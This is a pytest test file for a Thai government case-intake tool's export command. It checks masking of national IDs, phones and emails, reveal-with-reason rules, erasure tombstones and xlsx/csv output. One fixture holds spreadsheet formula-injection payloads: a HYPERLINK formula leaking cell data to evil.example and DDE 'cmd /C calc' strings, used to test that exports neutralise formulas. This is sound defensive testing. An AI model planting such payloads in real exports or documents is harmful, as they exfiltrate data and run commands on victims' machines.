"""`intake cases export`: one record per case in jsonl, csv and xlsx, masked unless revealed."""

from __future__ import annotations

import csv
import io
import json
import os
from datetime import datetime
from email.message import EmailMessage
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook
from support.cli import write_config
from support.invoke import invoke

from intake.context import open_context
from intake.importer import import_paths
from intake.runner import process_due
from intake.settings import load_settings

RECORD_KEYS = {
    "receipt_no",
    "message_id",
    "template",
    "status",
    "received_at",
    "fields",
    "issues",
    "sender_auth",
    "other_sender_replies",
}
PLACE = "หน้าตลาดสดเทศบาล"  # not personal data in the complaint template: shown as is


def thai_id(first12: str) -> str:
    """A national ID with a valid mod-11 check digit, computed here, not by the code under test."""
    total = sum(int(d) * (13 - i) for i, d in enumerate(first12))
    return first12 + str((11 - total % 11) % 10)


COMPLAINT_ID = thai_id("123456789012")
GENERAL_ID = thai_id("310150012345")
assert COMPLAINT_ID == "1234567890121"


def mail(message_id: str, subject: str, lines: list[str], **headers: str) -> bytes:
    msg = EmailMessage()
    msg["From"] = "citizen@example.org"
    msg["To"] = "saraban@example.go.th"
    msg["Subject"] = subject
    msg["Message-ID"] = message_id
    for name, value in headers.items():
        msg[name.replace("_", "-")] = value
    msg.set_content("\n".join(lines))
    return bytes(msg)


COMPLAINT = mail(
    "<complaint-1@example.org>",
    "ร้องเรียน ถนนชำรุด",
    [
        "ชื่อ-นามสกุล: สมศรี ทดสอบ",
        f"เลขประจำตัวประชาชน: {COMPLAINT_ID[0]}-{COMPLAINT_ID[1:5]}-{COMPLAINT_ID[5:10]}"
        f"-{COMPLAINT_ID[10:12]}-{COMPLAINT_ID[12]}",
        "โทรศัพท์: 081-234-5678",
        "อีเมล: Somsri@Example.org",
        "ที่อยู่: 12 หมู่ 3",
        "รหัสไปรษณีย์: 50200",
        "จังหวัด: เชียงใหม่",
        "เรื่อง: ถนนชำรุด",
        "วันที่เกิดเหตุ: 1 มกราคม 2569",
        f"สถานที่เกิดเหตุ: {PLACE}",
        "ผู้ถูกร้องเรียน: นายช่างโยธา",
        "รายละเอียด: ถนนเป็นหลุมลึก",
    ],
)
GENERAL = mail(
    "<general-1@example.org>",
    "คำร้องทั่วไป ขอข้อมูลข่าวสาร",
    [
        "ชื่อ-นามสกุล: มานะ ขยันยิ่ง",
        f"เลขประจำตัวประชาชน: {GENERAL_ID}",
        "วันเกิด: 5 มีนาคม 2530",
        "โทรศัพท์: 02-123-4567",
        "อีเมล: mana@example.org",
        "ที่อยู่: 99 ถนนราชดำเนิน",
        "รหัสไปรษณีย์: 10200",
        "จังหวัด: กรุงเทพฯ",
        "เรื่อง: ขอข้อมูลข่าวสาร",
        "รายละเอียด: ขอสำเนาเอกสาร",
    ],
)
BAD_ID = mail(
    "<general-2@example.org>",
    "คำร้องทั่วไป",
    ["ชื่อ-นามสกุล: ปิติ พอใจ", "เลขประจำตัวประชาชน: 1234567890122", "โทรศัพท์: 0899999999"],
)
AUTO_REPLY = mail("<auto@example.org>", "Automatic reply", ["away"], Auto_Submitted="auto-replied")
PERSONAL = [
    COMPLAINT_ID,
    "1-2345-67890-12-1",
    GENERAL_ID,
    "สมศรี ทดสอบ",
    "มานะ ขยันยิ่ง",
    "+66812345678",
    "0812345678",
    "somsri@example.org",
    "mana@example.org",
    "12 หมู่ 3",
    "99 ถนนราชดำเนิน",
    "1987-03-05",
]


@pytest.fixture(scope="module")
def store(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Three cases (complaint, general request, general with a bad ID) and one ignored mail."""
    root = tmp_path_factory.mktemp("export")
    config = write_config(root / "agency.toml", data_dir=root / "var", mailboxes=[])
    with pytest.MonkeyPatch.context() as patch:
        for key in [k for k in os.environ if k.startswith("INTAKE_")]:
            patch.delenv(key)
        ctx = open_context(load_settings(config))
    folder = root / "mail"
    folder.mkdir()
    for n, raw in enumerate([COMPLAINT, GENERAL, AUTO_REPLY, BAD_ID]):
        (folder / f"{n}.eml").write_bytes(raw)
    import_paths(ctx, [folder])
    process_due(ctx)
    return config


def export(capsys: pytest.CaptureFixture[str], config: Path, *args: str) -> tuple[int, str, str]:
    return invoke(capsys, "--config", str(config), "cases", "export", *args)


def jsonl_records(capsys: pytest.CaptureFixture[str], config: Path, *args: str) -> list[Any]:
    code, out, err = export(capsys, config, "--format", "jsonl", *args)
    assert code == 0, err
    return [json.loads(line) for line in out.splitlines()]


def test_jsonl_one_masked_record_per_case(store: Path, capsys: pytest.CaptureFixture[str]) -> None:
    code, out, _ = export(capsys, store, "--format", "jsonl")
    assert code == 0
    records = [json.loads(line) for line in out.splitlines()]
    assert len(records) == 3  # the auto-reply is no case
    for record in records:
        assert set(record) == RECORD_KEYS
        assert record["status"] == "new"
        datetime.fromisoformat(record["received_at"])
    year = records[0]["receipt_no"].split("-")[1]
    assert [r["receipt_no"] for r in records] == [f"REQ-{year}-{n:06d}" for n in (1, 2, 3)]
    complaint, general, bad = records
    assert [r["message_id"] for r in records] == [
        "<complaint-1@example.org>",
        "<general-1@example.org>",
        "<general-2@example.org>",
    ]
    assert [r["template"] for r in records] == ["complaint", "general_request", "general_request"]

    assert complaint["fields"]["national_id"] == "1-2345-xxxxx-xx-1"
    assert complaint["fields"]["incident_location"] == PLACE
    assert complaint["fields"]["incident_date"] == "2026-01-01"
    assert complaint["fields"]["phone"].endswith("5678") and "x" in complaint["fields"]["phone"]
    assert complaint["fields"]["email"].endswith("@example.org")
    assert complaint["issues"] == {}
    assert (
        general["fields"]["national_id"]
        == f"{GENERAL_ID[0]}-{GENERAL_ID[1:5]}-xxxxx-xx-{GENERAL_ID[12]}"
    )
    assert bad["fields"]["national_id"] is None
    assert "invalid_checksum" in bad["issues"]["national_id"]
    for secret in PERSONAL:
        assert secret not in out


def test_reveal_with_a_reason_shows_personal_data(
    store: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    complaint, general, _ = jsonl_records(
        capsys, store, "--reveal", "--reason", "เจ้าของข้อมูลขอสำเนา (PDPA ม.30)"
    )
    assert complaint["fields"]["national_id"] == COMPLAINT_ID
    assert complaint["fields"]["full_name"] == "สมศรี ทดสอบ"
    assert complaint["fields"]["phone"] == "+66812345678"
    assert complaint["fields"]["email"] == "somsri@example.org"
    assert general["fields"]["national_id"] == GENERAL_ID
    assert general["fields"]["birth_date"] == "1987-03-05"
    assert general["fields"]["province"] == "กรุงเทพมหานคร"


@pytest.mark.parametrize("reason", [None, "", "   "], ids=["no-reason", "empty", "blank"])
def test_reveal_without_a_reason_is_refused(
    store: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str], reason: str | None
) -> None:
    target = tmp_path / "out.jsonl"
    extra = [] if reason is None else ["--reason", reason]
    code, out, err = export(capsys, store, "--reveal", *extra, "--output", str(target))
    assert code != 0
    assert "--reason" in err and out == ""
    assert not target.exists()


def test_csv_has_a_bom_thai_text_and_one_row_per_case(
    store: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    target = tmp_path / "cases.csv"
    code, _, _ = export(capsys, store, "--format", "csv", "--output", str(target))
    assert code == 0
    data = target.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")
    assert PLACE.encode("utf-8") in data
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))
    masked = jsonl_records(capsys, store)
    assert len(rows) == len(masked) == 3
    for row, record in zip(rows, masked, strict=True):
        assert row["receipt_no"] == record["receipt_no"]
        assert row["message_id"] == record["message_id"]
        assert row["template"] == record["template"]
        assert json.loads(row["issues"]) == record["issues"]
        for key, value in record["fields"].items():
            assert row[f"fields.{key}"] == (value or "")
    text = data.decode("utf-8-sig")
    for secret in PERSONAL:
        assert secret not in text


def test_csv_to_standard_output(store: Path, capsys: pytest.CaptureFixture[str]) -> None:
    code, out, _ = export(capsys, store, "--format", "csv")
    assert code == 0
    assert out.startswith("\ufeffreceipt_no,message_id,template,status,received_at,")
    assert len(list(csv.reader(io.StringIO(out.removeprefix("\ufeff"))))) == 4


def test_xlsx_reads_back(store: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    target = tmp_path / "cases.xlsx"
    code, _, _ = export(capsys, store, "--format", "xlsx", "--output", str(target))
    assert code == 0
    sheet = load_workbook(target, read_only=True)["cases"]
    header, *rows = [list(r) for r in sheet.iter_rows(values_only=True)]
    assert header[:5] == ["receipt_no", "message_id", "template", "status", "received_at"]
    assert header[-3:] == ["issues", "sender_auth", "other_sender_replies"]
    records = jsonl_records(capsys, store)
    assert len(rows) == len(records) == 3
    for row, record in zip(rows, records, strict=True):
        cells = dict(zip(header, row, strict=True))
        assert cells["receipt_no"] == record["receipt_no"]
        assert cells["message_id"] == record["message_id"]
        for key, value in record["fields"].items():
            assert (cells[f"fields.{key}"] or "") == (value or "")
    complaint = dict(zip(header, rows[0], strict=True))
    assert complaint["fields.incident_location"] == PLACE
    assert complaint["fields.national_id"] == "1-2345-xxxxx-xx-1"


def test_xlsx_needs_an_output_file(store: Path, capsys: pytest.CaptureFixture[str]) -> None:
    code, out, err = export(capsys, store, "--format", "xlsx")
    assert code != 0 and "--output" in err and out == ""


def test_export_of_an_empty_store(capsys: pytest.CaptureFixture[str]) -> None:
    code, out, _ = invoke(capsys, "cases", "export")
    assert code == 0 and out == ""


# --- attacks on the export (issue 9, items 9 to 11) -----------------------------------

NEIGHBOUR_ID = thai_id("310060044563")
NEIGHBOUR_PHONE = "089-123-4567"
NEIGHBOUR_EMAIL = "neighbour.x@example.net"
FORMULAS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = mail(
    "<hostile-1@example.org>",
    "คำร้องทั่วไป",
    [
        '=HYPERLINK("http://evil.example/?x="&A1,"เปิด")',  # a line of its own: no field
        "ชื่อ-นามสกุล: =cmd|' /C calc'!A0",
        f"เลขประจำตัวประชาชน: {GENERAL_ID}",
        "โทรศัพท์: 02-123-4567",
        "เรื่อง: +SUM(1;2)*cmd|' /C calc'!A0",
        f"รายละเอียด: -2+3 เพื่อนบ้าน เลข {NEIGHBOUR_ID[:1]}-{NEIGHBOUR_ID[1:5]}-"
        f"{NEIGHBOUR_ID[5:10]}-{NEIGHBOUR_ID[10:12]}-{NEIGHBOUR_ID[12]} โทร {NEIGHBOUR_PHONE}"
        f" อีเมล {NEIGHBOUR_EMAIL} แจ้ง ด้วย",
    ],
)
NEIGHBOUR_SECRETS = [NEIGHBOUR_ID, NEIGHBOUR_PHONE, "0891234567", NEIGHBOUR_EMAIL]


@pytest.fixture(scope="module")
def hostile_store(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Cases whose values start like formulas and name a neighbour; one case erased."""
    root = tmp_path_factory.mktemp("export-hostile")
    config = write_config(root / "agency.toml", data_dir=root / "var", mailboxes=[])
    with pytest.MonkeyPatch.context() as patch:
        for key in [k for k in os.environ if k.startswith("INTAKE_")]:
            patch.delenv(key)
        ctx = open_context(load_settings(config))
    folder = root / "mail"
    folder.mkdir()
    for n, raw in enumerate([COMPLAINT, HOSTILE, GENERAL]):
        (folder / f"{n}.eml").write_bytes(raw)
    import_paths(ctx, [folder])
    process_due(ctx)
    erase_first_case(ctx)
    return config


def erase_first_case(ctx: Any) -> None:
    from sqlmodel import col, select

    from storage.db import transaction
    from storage.models import Case
    from storage.privacy import Actor
    from storage.retention import erase_case

    with transaction(ctx.engine) as session:
        first = session.execute(select(Case).order_by(col(Case.id))).scalars().first()
        assert first is not None and first.id is not None
        erase_case(
            session,
            case_id=first.id,
            actor=Actor(name="dpo", role="compliance"),
            purpose="PDPA §33 erasure request",
            keyring=ctx.keyring,
        )


def test_one_erased_case_leaves_a_tombstone_and_the_rest_export(
    hostile_store: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    records = jsonl_records(capsys, hostile_store)
    assert len(records) == 3
    erased, hostile, general = records
    assert erased["status"] == "erased" and erased["fields"] == {}
    assert erased["receipt_no"].endswith("000001") and erased["message_id"] is None
    assert hostile["template"] == "general_request" and general["fields"]["national_id"]
    revealed = jsonl_records(capsys, hostile_store, "--reveal", "--reason", "ตรวจสอบการส่งออก")
    assert [r["status"] for r in revealed] == ["erased", "new", "new"]
    assert revealed[2]["fields"]["national_id"] == GENERAL_ID


def test_a_masked_export_masks_identifiers_in_every_text_field(
    hostile_store: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    code, out, _ = export(capsys, hostile_store, "--format", "jsonl")
    assert code == 0
    hostile = [json.loads(line) for line in out.splitlines()][1]
    details = hostile["fields"]["details"]
    assert details.startswith("-2+3 เพื่อนบ้าน") and "แจ้ง" in details  # the request stays
    for secret in NEIGHBOUR_SECRETS:
        assert secret not in out
    assert f"-xxxxx-xx-{NEIGHBOUR_ID[12]}" in details and "4567" in details
    target = tmp_path / "hostile.csv"
    assert export(capsys, hostile_store, "--format", "csv", "--output", str(target))[0] == 0
    for secret in NEIGHBOUR_SECRETS:
        assert secret not in target.read_text(encoding="utf-8-sig")


def test_no_csv_cell_is_a_formula(
    hostile_store: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    for extra in ([], ["--reveal", "--reason", "ตรวจสอบการส่งออก"]):
        target = tmp_path / "cells.csv"
        code, _, err = export(
            capsys, hostile_store, "--format", "csv", "--output", str(target), *extra
        )
        assert code == 0, err
        rows = list(csv.reader(io.StringIO(target.read_text(encoding="utf-8-sig"))))
        cells = [cell for row in rows for cell in row]
        assert any("SUM(1;2)" in c for c in cells) and any("-2+3" in c for c in cells)
        bad = [c for c in cells if c[:1] in FORMULAS]
        assert not bad, f"cells a spreadsheet would run as formulas: {bad}"


def test_no_xlsx_cell_is_a_formula(
    hostile_store: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    for extra in ([], ["--reveal", "--reason", "ตรวจสอบการส่งออก"]):
        target = tmp_path / "cells.xlsx"
        code, _, err = export(
            capsys, hostile_store, "--format", "xlsx", "--output", str(target), *extra
        )
        assert code == 0, err
        sheet = load_workbook(target)["cases"]
        cells = [c for row in sheet.iter_rows() for c in row if c.value is not None]
        assert any("SUM(1;2)" in str(c.value) for c in cells)
        assert not [c.coordinate for c in cells if c.data_type == "f"], "formula cells"
        assert not [c.value for c in cells if str(c.value)[:1] in FORMULAS]
